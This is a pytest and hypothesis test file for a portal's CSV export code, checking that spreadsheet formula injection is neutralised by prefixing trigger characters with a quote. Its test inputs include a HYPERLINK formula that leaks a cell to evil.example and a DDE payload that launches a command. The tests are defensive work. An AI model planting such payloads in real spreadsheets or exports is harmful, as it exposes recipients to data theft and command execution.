"""The one CSV writer (msp_portal/csv_export.py, docs/exports.md): the neutralising rule as a
pure function, its properties, and what a download carries end to end."""

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.utils.translation import gettext_lazy
from hypothesis import given
from hypothesis import strategies as st

from msp_portal.csv_export import FORMULA_TRIGGERS, csv_cell, csv_response, is_plain_number, neutralise_text

TRIGGERS = "=+-@\t\r"


def read_download(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff"), "the download lost its byte order mark"
    return list(csv.reader(io.StringIO(body[1:], newline="")))


def is_dangerous(cell: str) -> bool:
    return cell.startswith(tuple(TRIGGERS)) and not is_plain_number(cell)


def test_the_triggers_are_owasps_list():
    assert set(FORMULA_TRIGGERS) == set(TRIGGERS)


@pytest.mark.parametrize(
    "typed",
    [
        '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+2",
        "\r=1+2",
        "=",
        "-",
        "+",
        "@",
        "-5e3",
        "-.5",
        "- 5",
        "+5-",
    ],
)
def test_formula_bearing_text_gets_a_leading_quote(typed):
    assert neutralise_text(typed) == "'" + typed


@pytest.mark.parametrize(
    "typed",
    [
        "-5",
        "-12.50",
        "+7",
        "0",
        "12.5000",
        "Contoso Managed Services",
        "",
        "'=already text",
        " =1",
        "a=b",
        "1-2",
    ],
)
def test_plain_numbers_and_harmless_text_stay_as_typed(typed):
    assert neutralise_text(typed) == typed


def test_digits_of_other_scripts_are_not_plain_numbers():
    # "-٣" (Arabic-Indic three) is no number to a spreadsheet: it is text and gets the quote.
    assert neutralise_text("-\u0663") == "'-\u0663"


def test_numbers_are_written_as_plain_numbers_and_dates_as_dates():
    assert csv_cell(Decimal("-12.50")) == "-12.50"
    assert csv_cell(Decimal("-1.25E+3")) == "-1250"
    assert csv_cell(Decimal("0E-7")) == "0.0000000"
    assert csv_cell(-5) == -5
    assert csv_cell(0.25) == "0.25"
    assert csv_cell(-1e20) == "-100000000000000000000"
    assert csv_cell(dt.date(2026, 11, 30)) == dt.date(2026, 11, 30)
    assert csv_cell(None) == ""


def test_non_finite_numbers_and_other_objects_are_text():
    assert csv_cell(Decimal("-Infinity")) == "'-Infinity"
    assert csv_cell(float("-inf")) == "'-inf"

    class Named:
        def __str__(self):
            return "=1+2"

    assert csv_cell(Named()) == "'=1+2"


def test_lazy_translations_are_text_and_neutralised():
    assert csv_cell(gettext_lazy("@leak")) == "'@leak"
    assert csv_cell(gettext_lazy("Name")) == "Name"


def test_a_download_neutralises_header_and_cells_and_keeps_numbers():
    response = csv_response(
        "x.csv",
        ["Name", gettext_lazy("=header"), "Amount"],
        [
            ['=HYPERLINK("http://evil.example","x")', Decimal("-12.50"), Decimal("3.0000")],
            ["\r@cmd", -5, "-7.25"],
        ],
    )
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'
    assert read_download(response) == [
        ["Name", "'=header", "Amount"],
        ['\'=HYPERLINK("http://evil.example","x")', "-12.50", "3.0000"],
        ["'\r@cmd", "-5", "-7.25"],
    ]


# --- properties -----------------------------------------------------------------------------

texts = st.one_of(
    st.text(),
    st.builds(lambda t, rest: t + rest, st.sampled_from(TRIGGERS), st.text()),
    st.from_regex(r"[+-]?[0-9]+(\.[0-9]+)?", fullmatch=True),
)


@given(texts)
def test_no_neutralised_text_starts_with_a_trigger_unless_a_plain_number(text):
    assert not is_dangerous(neutralise_text(text))


@given(texts)
def test_the_neutralised_cell_minus_its_quote_is_the_input(text):
    cell = neutralise_text(text)
    assert cell == text or cell == "'" + text
    assert cell.removeprefix("'") == text or cell == text
    if cell != text:
        assert cell[1:] == text


@given(texts)
def test_neutralising_twice_changes_nothing_more(text):
    once = neutralise_text(text)
    assert neutralise_text(once) == once


cell_values = st.one_of(
    texts,
    st.decimals(allow_nan=False, allow_infinity=False),
    st.floats(allow_nan=False, allow_infinity=False),
    st.integers(),
    st.dates(),
)


@given(st.lists(st.lists(cell_values, max_size=5)))
def test_no_cell_of_any_download_is_dangerous(rows):
    width = max((len(row) for row in rows), default=0)
    padded = [row + [""] * (width - len(row)) for row in rows]
    parsed = read_download(csv_response("p.csv", ["h"] * width, padded))
    for row, cells in zip(padded, parsed[1:], strict=True):
        for value, cell in zip(row, cells, strict=True):
            assert not is_dangerous(cell), (value, cell)
            if isinstance(value, str):
                assert cell == neutralise_text(value)
